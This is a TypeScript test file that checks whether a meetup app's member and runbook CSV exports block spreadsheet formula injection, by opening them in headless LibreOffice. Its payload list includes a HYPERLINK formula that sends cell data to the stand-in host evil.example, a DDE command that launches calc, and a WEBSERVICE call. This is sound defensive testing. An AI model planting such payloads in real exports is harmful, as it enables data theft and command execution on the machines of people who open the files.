import { execFile, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { runbookSteps } from '../../src/db/schema/tasks.ts';
import { csvFile } from '../../src/members/export.ts';
import { naughty } from '../rigs/support/naughty.ts';
import { makeTown } from '../support/town.ts';

/** In CI a missing program is a failure; elsewhere it is said. */
const missing = spawnSync('soffice', ['--version']).status !== 0;
if (missing && process.env.CI)
  throw new Error('CI opens our lists in a real spreadsheet: apt-get install libreoffice-calc-nogui');
if (missing) console.warn('\nLibreOffice is not installed, so no spreadsheet opens our lists here: SKIPPED\n');

const formulas = [
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '=WEBSERVICE("http://127.0.0.1:9/")',
  `=cmd|'/C calc'!A0`,
  '=DDE("soffice";"x";"y")',
  '+1+1',
  '-2+3',
  '@SUM(1;1)',
  '＝1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '"=1+1',
  '""=1+1',
  '";=1+1',
  ',=1+1',
  "'=1+1",
  '=1+1\r\n=2+2',
];
const guarded = (said: string) => said.replaceAll('\0', '');
const any = fc.sample(
  fc.tuple(
    fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '"', ',', ' '),
    fc.string({ unit: 'binary', maxLength: 12 }),
  ),
  400,
);
const cells = [...formulas, ...naughty, ...any.map((parts) => parts.join(''))].map(guarded);

/** What a spreadsheet makes of comma-separated files of UTF-8: each as its flat XML. */
async function opened(files: Record<string, string>): Promise<Record<string, string>> {
  const folder = mkdtempSync(join(String(process.env.TEST_FOLDER), 'sheet-'));
  const paths = Object.entries(files).map(([name, text]) => {
    const path = join(folder, `${name}.csv`);
    writeFileSync(path, text);
    return path;
  });
  // Commas, double quotes, UTF-8, from the first line; quoted cells too may be numbers, dates and formulas.
  const how = ['--headless', '--infilter=CSV:44,34,76,1,,0,false,true', '--convert-to', 'fods', '--outdir', folder];
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  await promisify(execFile)('soffice', [profile, ...how, ...paths], { env: { ...process.env, HOME: folder } });
  const read = (name: string) => readFileSync(join(folder, `${name}.fods`), 'utf8');
  return Object.fromEntries(Object.keys(files).map((name) => [name, read(name)]));
}

const formulasIn = (sheet: string | undefined) => sheet?.match(/table:formula=/g)?.length;

describe.skipIf(missing)('a real spreadsheet that opens our lists', () => {
  let sheets: Record<string, string>;
  beforeAll(async () => {
    const town = await makeTown();
    const { host } = town.visitors;
    const [add, steps] = [
      await town.fill('/meetups/:slug/members/add'),
      await town.fill('/meetups/:slug/runbook/steps'),
    ];
    for (const [n, name] of formulas.entries()) {
      const agreed = { consent: 'yes', consentWords: 'x' };
      await host.post(add, { name, email: `m${n}@example.com`, ...agreed });
      await host.post(steps, {
        title: `${name} ${n}`,
        amount: 3,
        unit: 'days-before',
        role: 'L',
        doneWhen: name,
        why: name,
      });
    }
    expect(await town.house.store.read.$count(runbookSteps)).toBeGreaterThan(10);
    sheets = await opened({
      members: (await host.get(await town.fill('/meetups/:slug/members/export.csv'))).body,
      runbook: (await host.get(await town.fill('/meetups/:slug/runbook.csv'))).body,
      anything: csvFile(
        ['said', 'again'],
        cells.map((cell) => [cell, cell]),
      ),
      bare: `said\r\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join('\r\n')}`,
    });
    await town.close();
  });

  test.each(['members', 'runbook', 'anything'])('finds no formula in %s', (name) => {
    expect(formulasIn(sheets[name])).toBeUndefined();
  });

  test('finds what people wrote in them', () => {
    expect(sheets.members).toContain('HYPERLINK');
    expect(sheets.runbook).toContain('HYPERLINK');
  });

  test('would find formulas in the same cells as people wrote them', () => {
    expect(formulasIn(sheets.bare)).toBeGreaterThan(5);
  });
});
